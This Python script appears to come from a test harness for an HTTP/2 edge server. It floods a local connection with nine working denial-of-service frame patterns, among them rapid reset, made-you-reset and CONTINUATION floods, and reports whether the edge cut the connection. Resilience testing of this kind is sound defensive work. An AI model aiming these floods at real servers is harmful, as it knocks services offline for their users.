"""Floods one connection of HTTP/2: `attack.py PORT KIND SECONDS FROM`.

Says how many frames it wrote, and whether the edge ended it.
"""

from __future__ import annotations

import json
import socket
import sys
import time
from collections.abc import Callable, Iterator

from hpack import Encoder

from fleet.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GET,
    HEADERS,
    PING,
    POST,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Headers,
    raw,
)

# How many frames are written at once.
BATCH = 100
Frames = Iterator[tuple[bytes, int]]


def heads() -> Callable[[Headers], bytes]:
    """Encodes heads without the table, so that each is the same bytes."""
    encoder = Encoder()
    encoder.header_table_size = 0
    return lambda headers: encoder.encode(headers, huffman=False)


def rapid_reset() -> Frames:
    """Requests that are given up at once (CVE-2023-44487)."""
    block = heads()(GET)
    stream = 1
    while True:
        frames = b""
        for _ in range(BATCH // 2):
            frames += raw(HEADERS, END_HEADERS | END_STREAM, stream, block) + raw(
                RST_STREAM, 0, stream, (8).to_bytes(4, "big")
            )
            stream += 2
        yield frames, BATCH


def made_you_reset() -> Frames:
    """Requests that the edge is made to reset (CVE-2025-8671)."""
    block = heads()(POST)
    stream = 1
    while True:
        frames = b""
        for _ in range(BATCH // 2):
            frames += raw(HEADERS, END_HEADERS, stream, block) + raw(WINDOW_UPDATE, 0, stream, bytes(4))
            stream += 2
        yield frames, BATCH


def continuations() -> Frames:
    """A head that never ends (CVE-2024-27316)."""
    yield raw(HEADERS, END_STREAM, 1, heads()(GET)), 1
    field = heads()([("x-flood", "x" * 100)])
    while True:
        yield raw(CONTINUATION, 0, 1, field) * BATCH, BATCH


def empty_continuations() -> Frames:
    """A head that never ends, of frames without bytes."""
    yield raw(HEADERS, END_STREAM, 1, heads()(GET)), 1
    while True:
        yield raw(CONTINUATION, 0, 1) * BATCH, BATCH


def settings() -> Frames:
    """SETTINGS, each to be acknowledged (CVE-2019-9515)."""
    while True:
        yield raw(SETTINGS, 0, 0) * BATCH, BATCH


def pings() -> Frames:
    """PINGs, each to be answered (CVE-2019-9512)."""
    while True:
        yield raw(PING, 0, 0, bytes(8)) * BATCH, BATCH


def empty_data() -> Frames:
    """A body of frames without bytes (CVE-2019-9518)."""
    yield raw(HEADERS, END_HEADERS, 1, heads()(POST)), 1
    while True:
        yield raw(DATA, 0, 1) * BATCH, BATCH


def priorities() -> Frames:
    """Priorities that change and change (CVE-2019-9513)."""
    while True:
        yield raw(PRIORITY, 0, 1, bytes(4) + b"\x10") * BATCH, BATCH


def window_updates() -> Frames:
    """A window that opens by a byte and a byte."""
    yield raw(HEADERS, END_HEADERS, 1, heads()(POST)), 1
    while True:
        yield raw(WINDOW_UPDATE, 0, 1, (1).to_bytes(4, "big")) * BATCH, BATCH


KINDS: dict[str, Callable[[], Frames]] = {
    function.__name__: function
    for function in (
        rapid_reset,
        made_you_reset,
        continuations,
        empty_continuations,
        settings,
        pings,
        empty_data,
        priorities,
        window_updates,
    )
}


def attack(port: int, kind: str, seconds: float, source: str) -> dict[str, object]:
    """Writes frames from an address until the edge ends the connection or the time is over; reads nothing."""
    written = 0
    end = time.monotonic() + seconds
    with socket.create_connection(("127.0.0.1", port), source_address=(source, 0)) as sock:
        sock.settimeout(1.0)
        try:
            sock.sendall(PREFACE + raw(SETTINGS, 0, 0))
            for frames, count in KINDS[kind]():
                if time.monotonic() > end:
                    return {"frames": written, "ended": False}
                sock.sendall(frames)
                written += count
        except TimeoutError:
            return {"frames": written, "ended": False, "blocked": True}
        except OSError:
            pass
    return {"frames": written, "ended": True}


if __name__ == "__main__":
    print(json.dumps(attack(int(sys.argv[1]), sys.argv[2], float(sys.argv[3]), sys.argv[4])))
